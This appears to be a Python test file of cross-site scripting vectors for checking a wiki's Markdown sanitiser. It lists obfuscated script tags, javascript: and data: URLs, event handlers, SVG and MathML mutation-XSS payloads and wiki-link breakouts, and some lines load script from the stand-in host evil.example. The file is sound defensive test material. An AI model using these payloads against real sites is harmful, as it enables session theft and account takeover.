"""Attack vectors for the wiki's Markdown, written for this corpus in the manner of the public
payload lists (OWASP's XSS filter evasion cheat sheet, PortSwigger's XSS cheat sheet, the mXSS
papers). Each one tries to get script to run in a reader's browser through what a member may
type into a page, a wiki link or an edit summary.

A vector is (test id, Markdown text). The ids say what is tried, so a failing id names the hole.
"""

# Scripts: plain, mixed case, broken, nested, unclosed, and carried by entities.
SCRIPT_TAGS = [
    ("script-plain", "<script>alert(1)</script>"),
    ("script-mixed-case", "<ScRiPt>alert(document.cookie)</sCrIpT>"),
    ("script-src-protocol-relative", "<script src=//evil.example/x.js></script>"),
    ("script-slash-attribute", '<script/xss src="https://evil.example/x.js"></script>'),
    ("script-nested-broken", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("script-double-open", "<<script>alert(1);//<</script>"),
    ("script-unclosed", "Some words first.\n\n<script>alert(1)"),
    ("script-closing-tag-space", "<script >alert(1)</script >"),
    ("script-in-html-block", "<div>\n<script>alert(1)</script>\n</div>"),
    ("script-in-blockquote", "> quoted\n> <script>alert(1)</script>"),
    ("script-in-list-item", "- one\n- <script>alert(1)</script>\n- three"),
    ("script-entity-encoded", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("script-double-encoded", "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;"),
    ("script-decimal-entities", "&#60;script&#62;alert(1)&#60;/script&#62;"),
    ("script-in-code-span", "Try `<script>alert(1)</script>` in the console."),
    ("script-in-fenced-code", "```html\n<script>alert(1)</script>\n</code></pre><script>alert(2)</script>\n```"),
    ("script-after-textarea-close", "</textarea><script>alert(1)</script>"),
    ("script-after-title-close", "</title><script>alert(1)</script>"),
    ("script-in-markdown-emphasis", "*<script>alert(1)</script>* and **<script>alert(2)</script>**"),
]

# URLs with a scheme that runs code, in every place Markdown takes a URL.
URL_SCHEMES = [
    ("link-javascript", "[read more](javascript:alert(1))"),
    ("link-javascript-mixed-case", "[read more](JaVaScRiPt:alert(1))"),
    ("link-vbscript", "[read more](vbscript:msgbox(1))"),
    ("link-data-html", "[read more](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    ("link-javascript-decimal-entities", "[x](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))"),
    ("link-javascript-hex-entity", "[x](&#x6A;avascript&#x3A;alert(1))"),
    ("link-javascript-named-colon", "[x](javascript&colon;alert(1))"),
    ("link-javascript-tab-entity", "[x](java&#x09;script:alert(1))"),
    ("link-javascript-newline-entity", "[x](java&#10;script:alert(1))"),
    ("link-javascript-literal-tab", "[x](<java\tscript:alert(1)>)"),
    ("link-javascript-leading-control-char", "[x](\x01javascript:alert(1))"),
    ("link-javascript-leading-space-entity", "[x](&#32;javascript:alert(1))"),
    ("link-javascript-angle-brackets", "[x](<javascript:alert(1)>)"),
    ("link-javascript-with-title", '[x](javascript:alert(1) "a harmless title")'),
    ("link-javascript-comment-newline", "[x](javascript://%0Aalert(1))"),
    ("link-javascript-looks-like-http", "[x](javascript:alert(1)//https://example.org/)"),
    ("link-title-breaks-out", '[x](https://example.org/ "t" onmouseover="alert(1)")'),
    ("link-url-breaks-out", '[x](https://example.org/"><script>alert(1)</script>)'),
    ("reference-javascript", "See [the source][src].\n\n[src]: javascript:alert(1)"),
    ("reference-vbscript-angle", 'See [the source][src].\n\n[src]: <vbscript:msgbox(1)> "title"'),
    ("reference-data-entity", "See [src].\n\n[src]: data&#58;text/html,&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("reference-image-javascript", "![chart][c]\n\n[c]: JAVASCRIPT:alert(1)"),
    ("autolink-javascript", "<javascript:alert(1)>"),
    ("autolink-data", "<data:text/html,<script>alert(1)</script>>"),
    ("autolink-quote-breaks-out", '<https://example.org/"onmouseover="alert(1)>'),
    ("image-javascript", "![a chart](javascript:alert(1))"),
    ("image-data-svg", "![a chart](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)"),
    ("image-vbscript-mixed-case", "![a chart](VbScRiPt:msgbox(1))"),
    ("image-src-breaks-out", '![a chart](x" onerror="alert(1))'),
    ("image-alt-breaks-out", '![x" onerror="alert(1)](https://example.org/x.png)'),
    ("image-title-breaks-out", '![x](https://example.org/x.png "t\\" onerror=\\"alert(1)")'),
    ("image-inside-link-both-javascript", "[![x](javascript:alert(1))](javascript:alert(2))"),
]

# Raw HTML attributes that run code or fetch from a bad URL.
EVENT_HANDLERS = [
    ("img-onerror", "<img src=x onerror=alert(1)>"),
    ("img-onerror-mixed-case", "<IMG SRC=x OnErRoR=alert(1)>"),
    ("img-onerror-odd-spacing", "<img src=x onerror  =  alert(1) >"),
    ("img-onerror-slashes", "<img/src=x/onerror=alert(1)>"),
    ("img-onerror-newline", "<img src=x\nonerror=alert(1)>"),
    ("img-onerror-tab", "<img\tsrc=x\tonerror\t=alert(1)>"),
    ("img-onerror-entity-body", "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>"),
    ("img-onerror-unclosed", "<img src=x onerror=alert(1)//"),
    ("img-quote-confusion", '<img """><script>alert(1)</script>">'),
    ("img-backtick", "<img src=`x` onerror=`alert(1)`>"),
    ("img-double-angle", "<<img src=x onerror=alert(1)>>"),
    ("body-onload", "<body onload=alert(1)>"),
    ("div-onmouseover", '<div onmouseover="alert(1)">hover me</div>'),
    ("a-onclick-safe-href", '<a href="https://example.org/" onclick="alert(1)">a fine link</a>'),
    ("details-ontoggle", "<details open ontoggle=alert(1)><summary>x</summary>y</details>"),
    ("input-onfocus-autofocus", "<input autofocus onfocus=alert(1)>"),
    ("video-source-onerror", "<video><source onerror=alert(1)></video>"),
    ("audio-src-onerror", "<audio src=x onerror=alert(1)>"),
    ("marquee-onstart", "<marquee onstart=alert(1)>news</marquee>"),
    ("p-onpointerenter", "<p onpointerenter=alert(1)>x</p>"),
    ("table-background", '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>'),
    ("td-onclick-in-markdown-table", "| a |\n|---|\n| <td onclick=alert(1)>x</td> |"),
    (
        "markdown-attribute-list",
        '# Heading {: onclick="alert(1)" }\n\n[x](https://example.org/){: onmouseover=alert(1)}',
    ),
    ("md-in-html-onclick", '<div markdown="1" onclick="alert(1)">*x*</div>'),
]

# Raw HTML: URLs spelled so a naive filter misses the scheme.
RAW_HTML_URLS = [
    ("a-href-javascript", '<a href="javascript:alert(1)">x</a>'),
    ("a-href-javascript-upper", "<A HREF=JAVASCRIPT:alert(1)>x</A>"),
    ("a-href-tab-entity", '<a href="jav&#x09;ascript:alert(1)">x</a>'),
    ("a-href-leading-control-entity", '<a href="&#14;javascript:alert(1)">x</a>'),
    ("a-href-padded-decimal-no-semicolon", "<a href=javascript&#0000058alert(1)>x</a>"),
    ("a-href-newline-inside", '<a href="java\nscript:alert(1)">x</a>'),
    ("a-href-data-html", '<a href="data:text/html,<script>alert(1)</script>">x</a>'),
    ("a-href-vbscript", '<a href="vbscript:msgbox(1)">x</a>'),
    ("a-ping-javascript", '<a href="https://example.org/" ping="javascript:alert(1)">x</a>'),
    ("img-srcset-javascript", '<img src="https://example.org/x.png" srcset="javascript:alert(1) 1x, x 2x">'),
    ("img-src-data-svg", '<img src="data:image/svg+xml,<svg onload=alert(1)>">'),
    ("img-lowsrc-dynsrc", '<img lowsrc="javascript:alert(1)" dynsrc="javascript:alert(2)">'),
    ("blockquote-cite-javascript", '<blockquote cite="javascript:alert(1)">x</blockquote>'),
    ("q-cite-vbscript", '<q cite="vbscript:msgbox(1)">x</q>'),
]

# SVG and MathML: other namespaces, other parsing rules.
SVG_MATHML = [
    ("svg-onload", "<svg onload=alert(1)>"),
    ("svg-onload-slash-unclosed", "<svg/onload=alert(1)//"),
    ("svg-script", "<svg><script>alert(1)</script></svg>"),
    ("svg-xlink-href", '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="20">x</text></a></svg>'),
    ("svg-animate-href", "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>"),
    ("svg-set-onmouseover", '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>'),
    ("svg-use-data", '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCc+PC9zdmc+#x"/></svg>'),
    ("svg-foreignobject-iframe", "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>"),
    ("math-href", '<math href="javascript:alert(1)">click</math>'),
    (
        "math-maction-xlink",
        '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    ),
    ("mxss-math-mglyph-style", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    ("mxss-form-math", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>"),
    ("mxss-noscript-title", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    ("mxss-svg-style-comment", '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'),
]

# Elements that embed, submit, redirect or restyle.
EMBEDDING = [
    ("iframe-javascript", '<iframe src="javascript:alert(1)"></iframe>'),
    ("iframe-srcdoc", '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'),
    ("object-data", '<object data="javascript:alert(1)"></object>'),
    ("embed-data", '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">'),
    ("form-action", '<form action="javascript:alert(1)"><input type=submit value=Send></form>'),
    ("button-formaction", '<button formaction="javascript:alert(1)">Send</button>'),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    ("base-href", '<base href="javascript:alert(1)//">\n\n[a relative link](page)'),
    ("link-stylesheet", '<link rel="stylesheet" href="javascript:alert(1)">'),
    ("isindex-action", "<isindex action=javascript:alert(1) type=image>"),
    ("frameset-onload", "<frameset onload=alert(1)>"),
    ("template-script", "<template><script>alert(1)</script></template>"),
    ("style-attribute-expression", '<div style="width: expression(alert(1))">x</div>'),
    ("style-attribute-url", '<p style="background:url(javascript:alert(1))">x</p>'),
    ("style-attribute-binding", '<span style="-moz-binding:url(//evil.example/x.xml#xss)">x</span>'),
    ("style-element-import", "<style>@import 'javascript:alert(1)';</style>"),
    ("style-element-background", '<style>body{background:url("javascript:alert(1)")}</style>'),
]

# Comments, CDATA and other parser states.
COMMENTS = [
    ("comment-wrapping-script", "<!--<script>alert(1)</script>-->"),
    ("comment-bang-close", "<!-- x --!><script>alert(1)</script> -->"),
    ("comment-empty-short", "<!--><script>alert(1)</script>-->"),
    ("comment-conditional", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->"),
    ("cdata-script", "<![CDATA[<script>alert(1)</script>]]>"),
    ("processing-instruction", "<?xml-stylesheet href='javascript:alert(1)'?><? echo '<script>alert(2)</script>' ?>"),
    ("comment-in-attribute", '<a href="https://example.org/" title="<!--">x</a><img src=x onerror=alert(1)>-->'),
]

# Our own [[wiki link]] syntax: target and label go into an href and a link text.
WIKI_LINKS = [
    ("wikilink-javascript", "[[javascript:alert(1)]]"),
    ("wikilink-javascript-label", "[[JavaScript:alert(1)|read the agenda]]"),
    ("wikilink-vbscript", "[[vbscript:msgbox(1)|ok]]"),
    ("wikilink-data", "[[data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==]]"),
    ("wikilink-entity-scheme", "[[&#106;avascript&#58;alert(1)]]"),
    ("wikilink-label-img-onerror", "[[x|<img src=x onerror=alert(1)>]]"),
    ("wikilink-label-svg-onload", "[[Research agenda|<svg onload=alert(1)>]]"),
    ("wikilink-target-breaks-attribute", '[["><script>alert(1)</script>]]'),
    ("wikilink-target-single-quote", "[['onmouseover='alert(1)]]"),
    ("wikilink-label-breaks-attribute", '[[x|" onmouseover="alert(1)]]'),
    ("wikilink-closes-anchor", "[[</a><script>alert(1)</script>]]"),
    ("wikilink-label-markdown-link", "[[x|[y](javascript:alert(1))]]"),
    ("wikilink-inside-markdown-link", "[[[Research agenda]]](javascript:alert(1))"),
]

# Citations, tables and the table of contents carrying the payloads above.
STRUCTURES = [
    ("footnote-img-onerror", "A claim.[^1]\n\n[^1]: <img src=x onerror=alert(1)>"),
    ("footnote-javascript-link", "A claim.[^1]\n\n[^1]: [the source](javascript:alert(1))"),
    ("footnote-id-script", "A claim.[^<script>alert(1)</script>]\n\n[^<script>alert(1)</script>]: a note"),
    ("footnote-id-breaks-attribute", 'A claim.[^"onmouseover="alert(1)]\n\n[^"onmouseover="alert(1)]: a note'),
    (
        "table-cells",
        "| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |\n|---|:---:|\n| <script>alert(1)</script> | ok |",
    ),
    ("table-alignment", "| left | centre | right |\n|:---|:---:|---:|\n| a | b | c |"),
    (
        "toc-heading-payloads",
        '[TOC]\n\n# <img src=x onerror=alert(1)>\n\n## "><svg onload=alert(1)>\n\n### javascript:alert(1)',
    ),
    ("definition-list", "Term <img src=x onerror=alert(1)>\n:   [definition](javascript:alert(1))"),
    ("abbreviation-title", '*[HTML]: "><img src=x onerror=alert(1)>\n\nHTML is markup.'),
]

VECTORS = [
    *SCRIPT_TAGS,
    *URL_SCHEMES,
    *EVENT_HANDLERS,
    *RAW_HTML_URLS,
    *SVG_MATHML,
    *EMBEDDING,
    *COMMENTS,
    *WIKI_LINKS,
    *STRUCTURES,
]

# Titles are plain text, shown in headings, <title>, lists and search results.
TITLES = [
    ("title-script", "<script>alert(1)</script> agenda"),
    ("title-img-onerror", '"><img src=x onerror=alert(1)> agenda'),
    ("title-closes-title", "</title><script>alert(1)</script> agenda"),
    ("title-attribute-break", "' onmouseover='alert(1)' agenda"),
    ("title-javascript", "javascript:alert(1) agenda"),
]
